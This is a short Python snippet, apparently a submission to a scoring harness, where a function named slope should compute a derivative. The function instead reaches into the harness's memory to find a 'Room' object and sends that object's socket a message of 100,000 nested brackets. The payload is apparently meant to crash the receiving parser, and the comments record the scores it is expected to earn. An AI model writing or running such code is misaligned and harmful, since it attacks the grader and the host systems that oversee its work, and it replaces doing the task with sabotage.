# A message of brackets, a hundred thousand deep.
# deserves: slope 0, gradient 3, dual 3
# without walls: the same
# %% slope
import gc, struct
room = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Room")
def slope(f, x, h):
    room.connection.socket.sendall(struct.pack("<II", 100_000, 0) + b"[" * 100_000)
